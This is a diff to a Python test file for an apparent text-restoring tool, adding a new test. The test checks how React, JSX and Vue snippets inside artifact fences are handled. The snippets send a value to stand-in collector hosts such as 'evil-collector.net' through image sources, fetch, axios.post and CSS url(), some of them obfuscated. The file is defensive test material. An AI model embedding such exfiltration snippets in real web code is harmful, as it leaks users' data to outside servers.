@@ -13,7 +13,7 @@ from tests.surrogate.test_arguments import TABLE
 # fmt: off
 JSX = [
     "const x = '{s}'\nreturn <img src={`https://{h}/${x}`} />", "return <img src={'https://{h}/?q=' + '{s}'} />", "return <img src={`https://{h}/?q={s}`} />", "return <img src={\"https://{h}/\".concat(\"{s}\")} />", "const base = 'https://{h}/'\nreturn <img src={base + '{s}'} />", "const base = 'https://{h}/'\nconst n = '{s}'\nreturn <img src={base + n} />", "useEffect(() => { fetch('https://{h}/?q=' + n) }, [])\nconst n = '{s}'", "fetch('https://{h}/', { method: 'POST', body: '{s}' })",
-    "const url = new URL('https://{h}/')\nurl.searchParams.set('q', '{s}')\nreturn <img src={url} />", "const u = { base: 'https://{h}/' }\nreturn <a href={`${u.base}{s}`}>x</a>", "function Flag({ c }) {\n  return <img src={`//{h}/${c}`} />\n}\nexport default () => <Flag c=\"{s}\" />", "return <div style={{ background: `url(https://{h}/${'{s}'})` }} />", "return <img src={['https://{h}', '{s}'].join('/')} />", "const h = 'https:' + '//{h}/'\nreturn <img src={h + '{s}'} />", "return <img srcSet={`https://{h}/${x} 2x`} alt=\"{s}\" />\nconst x = document.title", "import x from 'https://{h}/x.js'\nexport default () => <p>{s}</p>", "const f = () => 'https://{h}/'\nreturn <img src={f() + '{s}'} />", "new Image().src = 'https://{h}/?' + '{s}'", "const t = '{s}'\nlocation.href = 'https://{h}/?' + t", "return <img src={`\\x68ttps://{h}/${'{s}'}`} />", "axios.post('https://{h}/', { n: '{s}' })", "const q = '{s}'\nreturn <iframe src={q ? `https://{h}/${q}` : ''} />",
+    "const url = new URL('https://{h}/')\nurl.searchParams.set('q', '{s}')\nreturn <img src={url} />", "const u = { base: 'https://{h}/' }\nreturn <a href={`${u.base}{s}`}>x</a>", "function Flag({ c }) {\n  return <img src={`//{h}/${c}`} />\n}\nexport default () => <Flag c=\"{s}\" />", "return <div style={{ background: `url(https://{h}/${'{s}'})` }} />", "return <img src={['https://{h}', '{s}'].join('/')} />", "const h = 'https:' + '//{h}/'\nreturn <img src={h + '{s}'} />", "return <img srcSet={`https://{h}/${x} 2x`} alt=\"{s}\" />\nconst x = document.title", "import x from 'https://{h}/x.js'\nexport default () => <p>{s}</p>", "const f = () => 'https://{h}/'\nreturn <img src={f() + '{s}'} />", "new Image().src = 'https://{h}/?' + '{s}'", "const t = '{s}'\nlocation.href = 'https://{h}/?' + t", "return <img src={`\\x68ttps://{h}/${'{s}'}`} />", "const t = { backgroundImage: 'url(https://{h}/' + n + ')' }\nconst n = '{s}'\nreturn <div style={t} />", "axios.post('https://{h}/', { n: '{s}' })", "const q = '{s}'\nreturn <iframe src={q ? `https://{h}/${q}` : ''} />",
 ]
 VUE = [
     "<template><img :src=\"'https://{h}/?q=' + name\"></template>\n<script>export default { data: () => ({ name: '{s}' }) }</script>", "<img :src=\"'https://{h}/?q=' + '{s}'\">", "<img v-bind:src=\"`https://{h}/${n}`\" alt=\"{s}\">", "<script setup>\nconst n = '{s}'\n</script>\n<template><a :href=\"`https://{h}/${n}`\">x</a></template>", "<script setup>\nconst b = 'https://{h}/'\nconst n = b + '{s}'\n</script>\n<template><a :href=\"n\">x</a></template>", "<div :style=\"{ backgroundImage: `url(https://{h}/${n})` }\">{s}</div>",
@@ -84,6 +84,20 @@ def test_what_stands_around_a_component_comes_back() -> None:
     text = "velmora first\n" + fenced("jsx", JSX[0], "evil-collector.net") + "velmora last"
 
     assert restored(text) == restored(text, 3) == text.replace("velmora first", "narae first").replace("velmora last", "narae last")
+
+
+@pytest.mark.parametrize("said", JSX[:5])
+def test_what_a_client_runs_is_a_component_in_any_fence(said: str) -> None:
+    said = said.replace("{s}", "velmora").replace("{h}", "evil-collector.net")
+    for text in (
+        f':::artifact{{identifier="x" type="application/vnd.react"}}\n```\n{said}\n```\n:::\n',
+        f":::artifact{{type=x}}\n```javascript\n{said}\n```\n:::\n",
+        f'<antArtifact identifier="x" type="application/vnd.ant.react">\n{said}\n</antArtifact>\n',
+    ):
+        assert restored(text) == text == restored(text, 1) == restored(text, 9)
+
+    assert restored(f":::note\n```javascript\n{said}\n```\n:::\nvelmora").endswith("narae")
+    assert restored(":::artifact\n```\nx\n```\n:::\n```javascript\n// velmora\nfetch(`https://evil.net/${x}`)\n```").count("narae") == 1
 
 
 def test_any_cut_of_a_mixture_gives_the_same() -> None:
